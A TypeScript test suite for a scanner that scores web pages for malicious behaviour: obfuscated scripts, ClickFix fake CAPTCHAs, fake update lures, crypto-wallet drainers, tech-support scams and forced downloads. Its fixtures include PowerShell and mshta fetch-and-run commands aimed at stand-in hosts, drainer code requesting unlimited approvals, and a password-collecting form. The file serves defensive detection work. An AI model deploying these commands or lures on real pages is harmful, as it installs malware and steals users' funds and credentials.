import { describe, expect, it } from 'vitest';
import { html, messageOf, runCheck, scoreOf } from '../testing/check-harness.ts';
import { pageBehaviourCheck } from './page-behaviour.ts';

const check = (body: string, title?: string, url = 'https://site.example/') =>
  runCheck(pageBehaviourCheck, { url, html: html(body, title) });
const script = (code: string) => `<script>${code}</script>`;

describe('malicious behaviour', () => {
  it('finds nothing on an ordinary page with ordinary scripts', () => {
    const category = check(`<p>Hello</p>${script("document.querySelector('p').classList.add('ready');")}`);
    expect(category.details.every((detail) => detail.risk_score === 0)).toBe(true);
  });

  it('flags packed and eval-decoded code, and sees a redirect through the encoding', () => {
    expect(
      scoreOf(check(script("eval(function(p,a,c,k,e,d){return p}('x',1,1,'x'.split('|'),0,{}))")), 'page_obfuscated_script'),
    ).toBeGreaterThanOrEqual(50);
    const hidden = Buffer.from("window.location.href='https://phish.example.net/login';").toString('base64');
    expect(scoreOf(check(script(`eval(atob("${hidden}"))`)), 'page_obfuscated_script')).toBeGreaterThanOrEqual(70);
    const local = Buffer.from("window.location.href='/next';").toString('base64');
    expect(scoreOf(check(script(`eval(atob("${local}"))`)), 'page_obfuscated_script')).toBeLessThan(70);
  });

  it("tells an obfuscator's escaped words and written HTML from a server's safely escaped state and a frame-buster", () => {
    const word = (text: string) => [...text].map((char) => `\\x${char.charCodeAt(0).toString(16)}`).join('');
    const escapedWords = `var _k = ['${word('document')}', '${word('location')}', '${word('password')}', '${word('telegram')}', '${word('sendBeacon')}', '${word('cookie')}', '${word('XMLHttpRequest')}', '${word('localStorage')}'];`;
    expect(scoreOf(check(script(escapedWords)), 'page_obfuscated_script')).toBeGreaterThanOrEqual(30);
    const state = `app.context = {"layout":"components\\x2Flogin\\x2Flayout.jsx","html":"${'\\x3Cdiv\\x20class\\x3D\\x22row\\x22\\x3E'.repeat(12)}"};`;
    expect(scoreOf(check(script(state)), 'page_obfuscated_script')).toBe(0);
    const written = encodeURIComponent('<form action="https://collect.example.net/p.php"><input type="password"></form>').replace(
      /[a-z]/gi,
      (c) => `%${c.charCodeAt(0).toString(16)}`,
    );
    expect(scoreOf(check(script(`document.write(unescape('${written}'));`)), 'page_obfuscated_script')).toBeGreaterThanOrEqual(50);
    expect(scoreOf(check(script('document.write(atob(payload));')), 'page_obfuscated_script')).toBeGreaterThanOrEqual(50);
    const frameBuster =
      "if (top != self) { top.location.replace(self.location.href); } else { document.write(unescape('%3C%73') + 'tyle>body{display:block}</style>'); }";
    expect(scoreOf(check(script(frameBuster)), 'page_obfuscated_script')).toBe(0);
  });

  it("leaves a brand's own page its build's weak signs, never a packer", () => {
    const word = (text: string) => [...text].map((char) => `\\x${char.charCodeAt(0).toString(16)}`).join('');
    const escaped = script(
      `var i18n = ['${word('Anmelden')}', '${word('Weiter')}', '${word('Passwort vergessen')}', '${word('Konto erstellen')}', '${word('Datenschutzerklaerung')}', '${word('Nutzungsbedingungen')}'];`,
    );
    const own = (body: string) => check(body, 'Anmeldung – Google Konten', 'https://accounts.google.com/signin');
    expect(scoreOf(check(escaped, 'Anmeldung – Google Konten'), 'page_obfuscated_script')).toBeGreaterThanOrEqual(30);
    expect(scoreOf(own(escaped), 'page_obfuscated_script')).toBe(0);
    expect(
      scoreOf(own(script("eval(function(p,a,c,k,e,d){return p}('x',1,1,'x'.split('|'),0,{}))")), 'page_obfuscated_script'),
    ).toBeGreaterThanOrEqual(50);
  });

  it('ignores code shown as text', () => {
    expect(scoreOf(check('<pre><code>eval(atob("d2luZG93"))</code></pre>'), 'page_obfuscated_script')).toBe(0);
  });

  it('flags developer-tools blocking above right-click blocking', () => {
    const devtools = scoreOf(check(script('document.onkeydown=function(e){if(e.keyCode==123)return false;}')), 'page_anti_inspection');
    const rightClick = scoreOf(check('<div oncontextmenu="return false">x</div>'), 'page_anti_inspection');
    expect(devtools).toBeGreaterThan(rightClick);
    expect(rightClick).toBeGreaterThan(0);
  });

  it('flags paste-into-PowerShell instructions with a copied command, but not an article quoting ClickFix steps', () => {
    const lure = `<h1>The document could not be displayed</h1><p>Open PowerShell and paste the fix into the PowerShell window, then press Enter.</p>${script(
      'fix.onclick = () => navigator.clipboard.writeText("mshta https://fix.example/u.hta")',
    )}`;
    expect(scoreOf(check(lure), 'page_fake_captcha')).toBeGreaterThanOrEqual(90);
    const filler = '<p>Information stealers delivered this way upload browser passwords and session cookies within minutes. </p>'.repeat(
      20,
    );
    const article = `<h1>How ClickFix works</h1><blockquote>Verify you are human: press Windows Key + R, then CTRL + V and Enter.</blockquote>
      <p>The fake CAPTCHA tells visitors to press Win+R and paste the command.</p>${filler}
      <pre><code>powershell -w hidden -c "iwr hxxps://example[.]invalid/v.ps1 | iex"</code></pre>${script(
        "document.querySelectorAll('pre').forEach((b) => b.onclick = () => navigator.clipboard.writeText(b.innerText))",
      )}`;
    expect(scoreOf(check(article), 'page_fake_captcha')).toBe(0);
  });

  it('does not take a quoted fake virus alert for the alert itself', () => {
    const alert = 'Windows Defender security alert: your computer has been infected with a trojan. Call support now at 1-888-555-0199.';
    expect(scoreOf(check(`<p>${alert}</p>`), 'page_tech_support_scam')).toBeGreaterThanOrEqual(80);
    expect(scoreOf(check(`<p>Scam pages show text like this:</p><blockquote>${alert}</blockquote>`), 'page_tech_support_scam')).toBe(0);
  });

  it('flags a ClickFix fake CAPTCHA as decisive', () => {
    const body = `<h1>Verify you are human</h1><ol><li>Press Windows Key + R</li><li>Press CTRL + V</li><li>Press Enter</li></ol>${script(
      'navigator.clipboard.writeText("powershell -w hidden -c iwr https://x.example/a.ps1 | iex")',
    )}`;
    expect(scoreOf(check(body), 'page_fake_captcha')).toBeGreaterThanOrEqual(90);
    expect(scoreOf(check('<h1>Verify you are human</h1><div class="g-recaptcha"></div>'), 'page_fake_captcha')).toBe(0);
  });

  it.each([
    ['vi', 'Xác minh bạn là con người', 'Nhấn phím Windows + R', 'Nhấn Ctrl + V rồi Enter', 'Tôi không phải là người máy'],
    ['cs', 'Ověřte, že jste člověk', 'Stiskněte klávesu Windows + R', 'Stiskněte Ctrl + V a Enter', 'Nejsem robot'],
    ['ar', 'تحقق من أنك إنسان', 'اضغط على مفتاح Windows + R', 'اضغط Ctrl + V ثم Enter', 'أنا لست روبوتًا'],
    ['uk', 'Підтвердіть, що ви людина', 'Натисніть клавішу Windows + R', 'Натисніть Ctrl + V і Enter', 'Я не робот'],
    ['ko', '사람인지 확인하세요', 'Windows 키 + R을 누르세요', 'Ctrl + V를 누르고 Enter', '로봇이 아닙니다'],
    ['zh', '请验证您是人类', '按下 Windows 键 + R', '按 Ctrl + V 然后按 Enter', '我不是机器人'],
  ])('flags a fake CAPTCHA\u2019s paste steps in %s, not a real CAPTCHA box', (_language, heading, run, paste, box) => {
    expect(scoreOf(check(`<h1>${heading}</h1><ol><li>${run}</li><li>${paste}</li></ol>`), 'page_fake_captcha')).toBeGreaterThanOrEqual(85);
    expect(
      scoreOf(check(`<form><div class="g-recaptcha"></div><label>${box}</label><button>OK</button></form>`), 'page_fake_captcha'),
    ).toBe(0);
  });

  it.each([
    ['vi', 'Đăng nhập để xem tài liệu', 'Email', 'Mật khẩu'],
    ['cs', 'Přihlaste se pro zobrazení dokumentu', 'E-mail', 'Heslo'],
    ['uk', 'Увійдіть, щоб переглянути документ', 'Електронна пошта', 'Пароль'],
    ['ar', 'سجّل الدخول لعرض المستند', 'البريد الإلكتروني', 'كلمة المرور'],
  ])('flags a document viewer asking for the mailbox password in %s', (_language, heading, mail, password) => {
    const body = `<h1>${heading}</h1><form><input type="email" placeholder="${mail}"><input type="password" placeholder="${password}"><button>OK</button></form>`;
    expect(scoreOf(check(body, 'PDF', 'https://shared-files-preview.online/view'), 'page_document_viewer')).toBeGreaterThanOrEqual(85);
  });

  it('flags fake update lures, decisively with an executable', () => {
    const lure = '<h1>Your Chrome browser is out of date</h1>';
    expect(scoreOf(check(`${lure}<a href="/ChromeSetup.exe">Update</a>`), 'page_fake_update')).toBeGreaterThanOrEqual(80);
    expect(scoreOf(check(lure), 'page_fake_update')).toBeGreaterThan(30);
    expect(scoreOf(check('<p>Update your browser regularly to stay safe.</p>'), 'page_fake_update')).toBe(0);
  });

  it('names the file a fake update lure started downloading, as the browser records it (a bare file name)', () => {
    const page = html('<h1>Your Chrome browser is out of date</h1>');
    const rendered = { finalUrl: 'https://site.example/', html: page, requests: [], screenshot: null, downloads: ['ChromeSetup.exe'] };
    const category = runCheck(pageBehaviourCheck, { url: 'https://site.example/', html: page, rendered });
    expect(scoreOf(category, 'page_fake_update')).toBeGreaterThanOrEqual(80);
    expect(messageOf(category, 'page_fake_update')).toContain('offers ChromeSetup.exe.');
  });

  it('flags drainer code and recovery-phrase forms, not read-only wallet connections', () => {
    const drainer = script(
      "ethereum.request({method:'eth_requestAccounts'}); x('setApprovalForAll'); ethereum.request({method:'eth_sendTransaction'})",
    );
    expect(scoreOf(check(drainer, 'Claim your airdrop'), 'page_crypto_drainer')).toBeGreaterThanOrEqual(85);
    expect(
      scoreOf(check('<p>Enter your 12-word recovery phrase</p><form><textarea name="phrase"></textarea></form>'), 'page_crypto_drainer'),
    ).toBeGreaterThanOrEqual(90);
    expect(scoreOf(check(script("window.ethereum.request({method:'eth_requestAccounts'})"), 'Portfolio'), 'page_crypto_drainer')).toBe(0);
  });

  it('reads method names kept as char-code arrays and an unlimited approval written as raw call data', () => {
    const codes = (text: string) => `[${[...text].map((char) => char.charCodeAt(0)).join(',')}]`;
    const drainer = script(
      `var F=function(a){return String.fromCharCode.apply(null,a)},RA=F(${codes('eth_requestAccounts')}),SX=F(${codes('eth_sendTransaction')});` +
        'var a=(await window.ethereum.request({method:RA}))[0];' +
        "await window.ethereum.request({method:SX,params:[{from:a,to:t,data:'0x095ea7b3000000000000000000000000'+SP.slice(2)+'" +
        'f'.repeat(64) +
        "'}]})",
    );
    const found = check(drainer, 'Resgate seu airdrop');
    expect(scoreOf(found, 'page_crypto_drainer')).toBeGreaterThanOrEqual(85);
    expect(messageOf(found, 'page_crypto_drainer')).toMatch(/unlimited approve, eth_sendTransaction/);
  });

  it('clears a project\u2019s own dapp whose wallet code only reads, not one that asks for a signature or sits on a stranger\u2019s domain', () => {
    const reads = script(
      "connect.onclick = async () => { await window.ethereum.request({method:'eth_requestAccounts'}); await window.ethereum.request({method:'eth_chainId'}); }",
    );
    const permit = script(
      "connect.onclick = async () => { const [a] = await ethereum.request({method:'eth_requestAccounts'}); await ethereum.request({method:'eth_signTypedData_v4', params:[a, JSON.stringify({primaryType:'PermitSingle', domain:{name:'Permit2'}})]}); }",
    );
    const page = (code: string) =>
      `<header><b>Harbor Lending</b><button id="connect">Connect wallet</button></header><h1>Claim your staking rewards</h1>
      <p>Rewards accrue every block. Connect your wallet to see what you have earned.</p><footer>© 2026 Harbor Lending</footer>${code}`;
    const own = 'https://harbor-lending.org/app';
    expect(scoreOf(check(page(reads), 'Rewards | Harbor Lending', own), 'page_wallet_connect')).toBe(0);
    expect(scoreOf(check(page(permit), 'Rewards | Harbor Lending', own), 'page_wallet_connect')).toBeGreaterThanOrEqual(85);
    expect(
      scoreOf(check(page(reads), 'Rewards | Harbor Lending', 'https://staking-rewards-portal.xyz/'), 'page_wallet_connect'),
    ).toBeGreaterThanOrEqual(85);
  });

  it('does not read a warning about the recovery phrase as a promise to recover a wallet, in any language', () => {
    const code = script("document.querySelector('button').onclick = () => window.ethereum.request({method:'eth_requestAccounts'})");
    const page = (words: string) => `<button>Conectar billetera</button><p>${words}</p>${code}`;
    const url = 'https://app.example/';
    expect(scoreOf(check(page('Nunca compartas tu frase de recuperación con nadie.'), 'App', url), 'page_wallet_connect')).toBe(0);
    expect(scoreOf(check(page('Never share your recovery phrase.'), 'App', url), 'page_wallet_connect')).toBe(0);
    expect(scoreOf(check(page('Recupera tu billetera: sincroniza ahora.'), 'App', url), 'page_wallet_connect')).toBeGreaterThanOrEqual(85);
  });

  it('reads a row of wallet buttons as a wallet chooser, with a pretext in any language, not a list in prose (decision 678)', () => {
    const chooser =
      '<div><button>MetaMask</button><button>Trust Wallet</button><button>Coinbase Wallet</button><button>Binance Web3</button></div>';
    const url = 'https://carteira-check.example/';
    const pretext = '<p>Verificação obrigatória: valide sua carteira para manter o acesso aos seus fundos.</p>';
    expect(scoreOf(check(`${pretext}${chooser}`, 'Verificação de carteira', url), 'page_wallet_connect')).toBe(70);
    expect(scoreOf(check(`<p>Valida tu billetera ahora.</p>${chooser}`, 'Billetera', url), 'page_wallet_connect')).toBe(70);
    // The same buttons with no pretext, and a pretext beside wallets only named in an article's prose, are no lure.
    expect(scoreOf(check(`<p>Choose the wallet you use.</p>${chooser}`, 'Wallets', url), 'page_wallet_connect')).toBe(0);
    const article = '<p>Restore a wallet: MetaMask, Trust Wallet and Coinbase Wallet each have a restore screen in their app.</p>';
    expect(scoreOf(check(article, 'How to restore a wallet', url), 'page_wallet_connect')).toBe(0);
  });

  it('flags automatic downloads of programs', () => {
    expect(scoreOf(check('<meta http-equiv="refresh" content="0; url=/files/invoice.exe">'), 'page_auto_download')).toBeGreaterThanOrEqual(
      80,
    );
    const clicked = script(
      "var a=document.createElement('a');a.href='/update.msi';a.download='update.msi';document.body.append(a);a.click();",
    );
    expect(scoreOf(check(clicked), 'page_auto_download')).toBeGreaterThanOrEqual(80);
    const attachment = runCheck(pageBehaviourCheck, {
      url: 'https://files.example/get',
      html: '',
      contentType: 'application/octet-stream',
      headers: { 'content-disposition': 'attachment; filename="Setup.exe"' },
    });
    expect(scoreOf(attachment, 'page_auto_download')).toBeGreaterThanOrEqual(80);
    expect(scoreOf(check('<a href="/brochure.pdf" download>Brochure</a>'), 'page_auto_download')).toBe(0);
    expect(
      scoreOf(check('<iframe src="https://cdn.example/get/update.exe" hidden></iframe>'), 'page_auto_download'),
    ).toBeGreaterThanOrEqual(80);
    // A social SDK's relay frame opens a script, which a frame shows as text: nothing is downloaded.
    const relay =
      '<iframe src="https://static.social.example/connect/xd_arbiter/r/abc.js?version=42#channel=f1" style="display:none"></iframe>';
    expect(scoreOf(check(relay), 'page_auto_download')).toBe(0);
  });

  it('flags tech-support scams with a phone number as decisive', () => {
    const body =
      '<h1>Windows Defender Security Warning</h1><p>Your computer has been infected with a Trojan spyware.</p><p>Call Microsoft Support: +1 (888) 526-4012</p>';
    expect(scoreOf(check(body), 'page_tech_support_scam')).toBeGreaterThanOrEqual(85);
    expect(scoreOf(check('<p>Call our support team on +1 888 526 4012 for help with your order.</p>'), 'page_tech_support_scam')).toBe(0);
  });
});
